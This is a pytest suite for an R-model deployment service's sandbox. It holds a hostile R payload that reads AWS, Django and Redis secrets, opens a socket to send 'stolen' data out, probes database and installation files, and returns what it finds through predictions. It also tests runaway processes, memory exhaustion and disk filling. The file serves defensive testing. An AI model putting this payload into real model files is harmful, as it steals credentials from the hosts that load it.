"""The R sandbox: a hostile model cannot see secrets, reach the network or read the
installation's files, and runaway R is stopped."""

import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile

from deployer.integrations import rprocess
from deployer.models import ModelVersion
from deployer.services.model_versions import model_version_inspect, model_version_upload
from deployer.tests.intake_support import tar_gz

pytestmark = pytest.mark.slow

# Runs while the model loads (load_fn), like code hidden in a crafted .rds would, and
# smuggles what it saw out through its predictions.
HOSTILE_PREDICT_R = b"""
attempt <- function(expr) tryCatch({ force(expr); "ok" }, error = function(e) "denied", warning = function(w) "denied")
load_fn <- function(model_dir) {
  targets <- readLines(file.path(model_dir, "targets.txt"))
  network <- tryCatch({
    con <- socketConnection(targets[1], as.integer(targets[2]), blocking = TRUE, open = "r+b", timeout = 3)
    writeLines("stolen", con)
    close(con)
    "connected"
  }, error = function(e) "blocked", warning = function(w) "blocked")
  report <- paste(
    paste0("aws=", Sys.getenv("AWS_SECRET_ACCESS_KEY", "absent")),
    paste0("django=", Sys.getenv("DJANGO_SECRET_KEY", "absent")),
    paste0("redis=", Sys.getenv("REDIS_URL", "absent")),
    paste0("network=", network),
    paste0("database=", attempt(readBin(targets[3], "raw", 16))),
    paste0("installation=", attempt(stopifnot(length(readLines(targets[4], n = 1)) == 1))),
    paste0("secret_file=", attempt(stopifnot(length(readLines(targets[5], n = 1)) == 1))),
    paste0("uid=", system("id -u", intern = TRUE)),
    sep = ";"
  )
  structure(list(report = report), class = "probe")
}
predict_fn <- function(model, data) rep(model$report, nrow(data))
"""


class Listener:
    """A TCP server that records whether anyone connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))  # noqa: S104 (a test listener: reachable on every address on purpose)
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.sock.close()


@pytest.fixture
def listener() -> Any:
    server = Listener()
    yield server
    server.close()


def hostile_bundle(trained_models: Path, host: str, port: int, secret_file: Path | None = None) -> bytes:
    installation_file = Path(settings.BASE_DIR) / "manage.py"
    database = settings.DATABASES["default"]["NAME"]
    targets = f"{host}\n{port}\n{database}\n{installation_file}\n{secret_file or '/nonexistent'}\n"
    return tar_gz(
        {
            "model.rds": (trained_models / "lm" / "model.rds").read_bytes(),
            "predict.R": HOSTILE_PREDICT_R,
            "targets.txt": targets.encode(),
        }
    )


def report_of(version: ModelVersion) -> dict[str, str]:
    assert version.status == ModelVersion.Status.READY, version.status_reason
    report = version.inspection["example"]["predictions"]["predictions"][0]
    return dict(item.split("=", 1) for item in report.split(";"))


@pytest.mark.django_db
def test_a_hostile_model_sees_no_secrets_no_network_and_not_the_database(
    owner: User, trained_models: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch, secret_file: Path
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "fake-secret-that-must-not-leak")
    bundle = hostile_bundle(trained_models, "127.0.0.1", listener.port, secret_file)
    version = model_version_upload(
        owner=owner,
        name="hostile",
        file=SimpleUploadedFile("m.tar.gz", bundle),
        sample=SimpleUploadedFile("s.csv", b"x\n1\n"),
    ).model_version

    report = report_of(model_version_inspect(model_version=version))

    assert report["aws"] == "absent"
    assert report["django"] == "absent"
    assert report["redis"] == "absent"
    assert report["network"] == "blocked"
    assert listener.connections == 0
    if os.geteuid() == 0:
        assert report["uid"] != "0"
        assert report["database"] == "denied"
    if rprocess._isolation().mounts:
        # World-readable, yet hidden: the installation's files and *_FILE secrets.
        assert report["installation"] == "denied"
        assert report["secret_file"] == "denied"


@pytest.mark.django_db
def test_the_sandbox_cannot_reach_this_machine_on_its_external_address(
    owner: User, trained_models: Path, listener: Listener
) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing address
        address = probe.getsockname()[0]
    version = model_version_upload(
        owner=owner,
        name="hostile",
        file=SimpleUploadedFile("m.tar.gz", hostile_bundle(trained_models, address, listener.port)),
        sample=SimpleUploadedFile("s.csv", b"x\n1\n"),
    ).model_version

    report = report_of(model_version_inspect(model_version=version))

    assert report["network"] == "blocked"
    assert listener.connections == 0


@pytest.mark.django_db(transaction=True)
def test_through_the_worker_the_r_child_does_not_inherit_the_workers_secrets(
    owner: User, trained_models: Path, listener: Listener, api_client_for: Any, celery_worker: Any
) -> None:
    # The worker runs with AWS_SECRET_ACCESS_KEY and DJANGO_SECRET_KEY set (testsupport.env).
    assert os.environ["AWS_SECRET_ACCESS_KEY"]
    client = api_client_for(owner)
    created = client.post(
        "/api/v1/models/",
        {
            "name": "hostile",
            "file": SimpleUploadedFile("m.tar.gz", hostile_bundle(trained_models, "127.0.0.1", listener.port)),
            "sample": SimpleUploadedFile("s.csv", b"x\n1\n"),
        },
        format="multipart",
    ).json()
    deadline = time.monotonic() + 60
    while ModelVersion.objects.get(pk=created["id"]).status == ModelVersion.Status.INSPECTING:
        assert time.monotonic() < deadline, "inspection did not finish"
        time.sleep(0.1)

    report = report_of(ModelVersion.objects.get(pk=created["id"]))

    assert (report["aws"], report["django"], report["network"]) == ("absent", "absent", "blocked")
    assert listener.connections == 0


def run_r(tmp_path: Path, code: str, limits: rprocess.Limits) -> rprocess.Result:
    script = tmp_path / "script.R"
    script.write_text(code)
    return rprocess.run_sandboxed(script, [], workdir=tmp_path, limits=limits)


@pytest.fixture
def workdir() -> Any:
    with rprocess.scratch_directory() as directory:
        yield directory


LIMITS = rprocess.Limits(wall_seconds=20, cpu_seconds=20, memory_bytes=2 * 1024**3)


def test_the_r_child_sees_only_a_scrubbed_environment(workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_TOKEN", "hunter2")

    result = run_r(workdir, "cat(sort(names(Sys.getenv())), sep = '\\n')", LIMITS)

    names = set(result.stdout.split())
    assert "SOME_TOKEN" not in names
    assert not {name for name in names if name.startswith(("AWS_", "DJANGO_", "REDIS", "DATABASE"))}
    assert any("no network" in line for line in result.isolation)
    assert any(line.startswith("rlimits: cpu 20 s") for line in result.isolation)


def test_a_timeout_kills_r_and_everything_it_started(workdir: Path) -> None:
    # One child in R's process group, one that escaped it with setsid.
    code = "system('sleep 300 & echo $! > child.pid; setsid sleep 301 & echo $! > escaped.pid'); Sys.sleep(300)"

    result = run_r(workdir, code, rprocess.Limits(wall_seconds=2, cpu_seconds=20, memory_bytes=2 * 1024**3))

    assert result.timed_out
    assert result.seconds < 10
    for pid_file in ("child.pid", "escaped.pid"):
        pid = int((workdir / pid_file).read_text())
        assert not Path(f"/proc/{pid}").exists() or Path(f"/proc/{pid}/stat").read_text().split()[2] == "Z"


def test_the_address_space_limit_stops_a_huge_allocation(workdir: Path) -> None:
    result = run_r(workdir, "x <- numeric(1e9); cat('allocated')", rprocess.Limits(20, 20, 1024**3))

    assert result.returncode != 0
    assert "allocated" not in result.stdout
    assert result.out_of_memory


def test_the_file_size_limit_stops_filling_the_disk(workdir: Path) -> None:
    code = "writeBin(raw(4 * 1024^2), 'big.bin'); cat('written')"

    result = run_r(workdir, code, rprocess.Limits(20, 20, 2 * 1024**3, file_bytes=1024**2))

    assert "written" not in result.stdout
    assert (workdir / "big.bin").stat().st_size <= 1024**2


def test_r_dies_with_the_process_that_started_it(workdir: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("the parent-death signal is set by setpriv, used when the worker runs as root")
    script = workdir / "script.R"
    script.write_text("writeLines(as.character(Sys.getpid()), 'r.pid'); Sys.sleep(300)")
    launcher = (
        "import sys; from pathlib import Path; from deployer.integrations import rprocess; "
        "rprocess.run_sandboxed(Path(sys.argv[1]), [], workdir=Path(sys.argv[2]), "
        "limits=rprocess.Limits(300, 300, 2 * 1024**3))"
    )
    parent = subprocess.Popen([sys.executable, "-c", launcher, str(script), str(workdir)], cwd=settings.BASE_DIR)
    deadline = time.monotonic() + 30
    while not (workdir / "r.pid").exists():
        assert time.monotonic() < deadline, "R did not start"
        time.sleep(0.1)
    r_pid = int((workdir / "r.pid").read_text())

    parent.kill()
    parent.wait()
    time.sleep(0.5)

    assert not Path(f"/proc/{r_pid}").exists() or Path(f"/proc/{r_pid}/stat").read_text().split()[2] == "Z"
